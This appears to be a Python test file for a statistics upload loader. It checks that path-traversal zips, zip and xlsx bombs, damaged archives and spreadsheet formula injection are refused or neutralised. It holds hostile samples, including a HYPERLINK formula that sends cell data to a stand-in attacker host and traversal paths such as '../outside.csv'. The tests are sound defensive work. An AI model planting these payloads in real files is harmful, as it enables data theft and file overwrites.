"""Hostile uploads: zips that escape their folder or explode, formulas in cells."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from conftest import load_texts, store_contents
from fixtures import ees
from fixtures import quarterly as q

from exports.tables import to_csv_bytes, to_xlsx_bytes
from loaders.load import InputFile, load_files, unzip
from loaders.problems import FileRejected
from loaders.store import load_history

pytestmark = pytest.mark.pure

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, payload in members.items():
            archive.writestr(name, payload)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "path", ["../outside.csv", "a/../../outside.csv", "/etc/x.csv", "..\\outside.csv", "C:/x.csv"]
)
def test_a_zip_with_a_path_outside_its_folder_is_refused(store, path):
    payload = zipped({"fine.csv": b"a,b\n1,2\n", path: b"a,b\n1,2\n"})
    with pytest.raises(FileRejected, match="unsafe path"):
        unzip("release.zip", payload)
    # Through the Data page's upload handling: refused, nothing to check or load.
    from ui.loading import input_files

    upload = type("Upload", (), {"name": "release.zip", "getvalue": lambda self: payload})()
    inputs, refused = input_files([upload])
    assert inputs == [] and "unsafe path" in refused[0]
    before = store_contents(store)
    assert load_files(store, inputs).status == "nothing new"
    assert store_contents(store) == before


def test_a_zip_bomb_of_1000_to_1_is_refused_before_unpacking():
    bomb = zipped({"big.csv": b"0" * (20 * 1024**2)})  # 20 MB of zeros: ~1000:1
    member = zipfile.ZipFile(io.BytesIO(bomb)).infolist()[0]
    assert member.file_size / member.compress_size > 900
    with pytest.raises(FileRejected) as refused:
        unzip("bomb.zip", bomb)
    (problem,) = refused.value.problems
    assert "zip bomb" in problem.message
    assert problem.expected == "at most 200:1"


def test_a_zip_with_too_many_files_is_refused(monkeypatch):
    from loaders import load

    monkeypatch.setattr(load, "MAX_ZIP_MEMBERS", 3)
    payload = zipped({f"f{i}.csv": b"a\n1\n" for i in range(4)})
    with pytest.raises(FileRejected, match="holds 4 files"):
        unzip("many.zip", payload)


def test_a_real_release_zip_unpacks(store):
    payload = zipped({"data/cla.csv": ees.number_and_rate_2025().encode()})
    (member,) = unzip("release.zip", payload)
    assert member.name == "release.zip/data/cla.csv"


def test_a_formula_in_an_upload_is_neutralised_in_the_check_report_csv_and_excel(store):
    bad = q.quarterly_return(q.row("cla_count", FORMULA.replace(",", ";")))
    report = load_texts(store, {"bad.csv": bad})
    problems = report.problems_table()
    assert problems["value"].str.startswith("=").any()  # as found, on screen
    csv_text = to_csv_bytes(problems).decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(problems))).active
    cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert not any(c.startswith("=") for c in cells)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_a_file_named_like_a_formula_is_neutralised_in_the_history_download(store, lead):
    name = f"{lead}cmd.csv"
    load_texts(store, {name: ees.number_and_rate_2025()})
    history = load_history(store)
    assert history.iloc[0]["files"].startswith(lead)
    text = to_csv_bytes(history).decode("utf-8-sig")
    assert f"'{lead}cmd.csv" in text


MEMBER = "data/cla.csv"


def damaged_zip(kind: str) -> bytes:
    """A release zip damaged as downloads get damaged."""
    text = ees.number_and_rate_2025().encode()
    if kind == "crc":  # one byte of the file changed: its CRC-32 no longer matches
        payload = bytearray(zipped({MEMBER: text}, zipfile.ZIP_STORED))
        payload[payload.index(b"time_period")] = ord("T")
        return bytes(payload)
    payload = zipped({MEMBER: text, "data/other.csv": text})
    if kind == "garbled":  # compressed bytes overwritten: they no longer inflate
        garbled = bytearray(payload)
        start = payload.index(MEMBER.encode()) + len(MEMBER) + 8
        garbled[start : start + 16] = b"\xff\x00" * 8
        return bytes(garbled)
    if kind == "member cut short":  # bytes lost before the zip's table of contents
        contents = payload.index(b"PK\x01\x02")
        return payload[: contents - 40] + payload[contents:]
    assert kind == "truncated"  # the download stopped half way
    return payload[: len(payload) // 2]


DAMAGE = ["crc", "garbled", "member cut short", "truncated"]


@pytest.mark.parametrize("kind", DAMAGE)
def test_a_damaged_zip_is_refused_in_plain_words_and_nothing_is_written(store, kind):
    from loaders.load import InputFile
    from ui.loading import input_files

    payload = damaged_zip(kind)
    with pytest.raises(FileRejected) as refused:
        unzip("release.zip", payload)
    (problem,) = refused.value.problems
    assert problem.message.startswith("The zip release.zip is damaged: ")
    assert problem.message.endswith("; download it again.")
    if kind in ("crc", "garbled"):  # the table of contents is whole: the file is named
        assert MEMBER in problem.message
    # Through load_files (a zip given as it was uploaded) and the Data page's upload handling.
    before = store_contents(store)
    report = load_files(store, [InputFile("release.zip", payload)])
    assert report.status == "rejected"
    assert report.files[0].message == problem.message
    assert store_contents(store) == before
    upload = type("Upload", (), {"name": "release.zip", "getvalue": lambda self: payload})()
    inputs, reasons = input_files([upload])
    assert inputs == [] and problem.message in reasons[0]


def test_a_zip_whose_files_are_fine_loads_through_load_files(store):
    from loaders.load import InputFile

    payload = zipped({MEMBER: ees.number_and_rate_2025().encode()})
    report = load_files(store, [InputFile("release.zip", payload)])
    assert report.status == "committed"
    assert [f.name for f in report.files] == [f"release.zip/{MEMBER}"]


def _damaged_workbook(kind: str) -> bytes:
    from test_neighbours import _workbook

    book = _workbook()
    if kind == "truncated":
        return book[: len(book) // 2]
    # The same workbook with its sheet stored uncompressed and one byte of it changed.
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        members = {m.filename: archive.read(m) for m in archive.infolist()}
    payload = bytearray(zipped(members, zipfile.ZIP_STORED))
    at = payload.index(b"Council 101")
    payload[at] = ord("c")
    return bytes(payload)


@pytest.mark.parametrize("kind", ["crc", "truncated"])
def test_a_damaged_workbook_is_refused_in_plain_words(store, kind):
    before = store_contents(store)
    report = load_texts(store, {"statistical_neighbours_2025.xlsx": _damaged_workbook(kind)})
    assert report.status == "rejected"
    message = report.files[0].message
    assert message.startswith("The workbook statistical_neighbours_2025.xlsx is damaged: ")
    assert message.endswith("; download it again.")
    assert store_contents(store) == before


def test_a_zip_over_the_size_limit_is_refused_before_unpacking(monkeypatch):
    from loaders import load

    monkeypatch.setattr(load, "MAX_ZIP_UNCOMPRESSED_BYTES", 1000)
    payload = zipped({"a.csv": b"a,b\n" + b"1,2\n" * 300})
    with pytest.raises(FileRejected) as refused:
        unzip("big.zip", payload)
    (problem,) = refused.value.problems
    assert problem.message == "The zip unpacks to more than the size limit."
    assert (problem.value, problem.expected) == ("1,204 bytes", "at most 1,000")


def test_the_unpacked_size_limit_is_500_mb_unless_set():
    from loaders import load

    if "CP_MAX_ZIP_BYTES" in __import__("os").environ:
        pytest.skip("CP_MAX_ZIP_BYTES is set")
    assert load.MAX_ZIP_UNCOMPRESSED_BYTES == 500 * 1024**2


def workbook(sheet: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal .xlsx (an .xlsx is a zip of XML parts) whose first sheet is `sheet`."""
    return zipped(
        {
            "[Content_Types].xml": (
                b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                b'package/2006/content-types"><Override PartName="/xl/workbook.xml" '
                b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
                b'sheet.main+xml"/></Types>'
            ),
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": sheet,
            **(extra or {}),
        }
    )


@pytest.fixture
def openpyxl_opens(monkeypatch):
    """Every workbook openpyxl is asked to open."""
    opened: list[object] = []
    real = openpyxl.load_workbook

    def recording(*args, **kwargs):
        opened.append(args[0] if args else kwargs)
        return real(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", recording)
    return opened


def test_an_xlsx_bomb_is_refused_before_openpyxl_opens_it(store, openpyxl_opens):
    row = b'<row><c t="inlineStr"><is><t>0</t></is></c></row>'
    sheet = b"<worksheet><sheetData>" + row * 800_000 + b"</sheetData></worksheet>"  # 40 MB
    bomb = workbook(sheet)
    assert len(bomb) < 200_000  # packed about 300:1
    before = store_contents(store)
    report = load_files(store, [InputFile("sn_may_2025.xlsx", bomb)])
    assert report.status == "rejected"
    (problem,) = report.files[0].problems
    assert problem.file == "sn_may_2025.xlsx"
    assert "zip bomb" in problem.message
    assert problem.value.startswith("xl/worksheets/sheet1.xml: ")
    assert openpyxl_opens == []
    assert store_contents(store) == before


def test_an_xlsx_of_too_many_parts_or_too_large_unpacked_is_refused(
    store, monkeypatch, openpyxl_opens
):
    from loaders import load

    monkeypatch.setattr(load, "MAX_ZIP_MEMBERS", 5)
    many = workbook(b"<worksheet/>", {f"xl/media/image{i}.png": b"x" for i in range(5)})
    report = load_files(store, [InputFile("many.xlsx", many)])
    assert report.files[0].outcome == "rejected"
    assert "holds 8 files" in report.files[0].message
    monkeypatch.setattr(load, "MAX_ZIP_UNCOMPRESSED_BYTES", 100)
    report = load_files(store, [InputFile("large.xlsx", workbook(b"<worksheet/>" * 20))])
    assert "unpacks to more than the size limit" in report.files[0].message
    assert openpyxl_opens == []


def test_an_ordinary_workbook_is_still_opened(store, openpyxl_opens):
    sheet = openpyxl.Workbook()
    sheet.active.append(["not", "a", "neighbour", "list"])
    buffer = io.BytesIO()
    sheet.save(buffer)
    report = load_files(store, [InputFile("notes.xlsx", buffer.getvalue())])
    assert report.files[0].outcome == "not used"
    assert len(openpyxl_opens) == 1
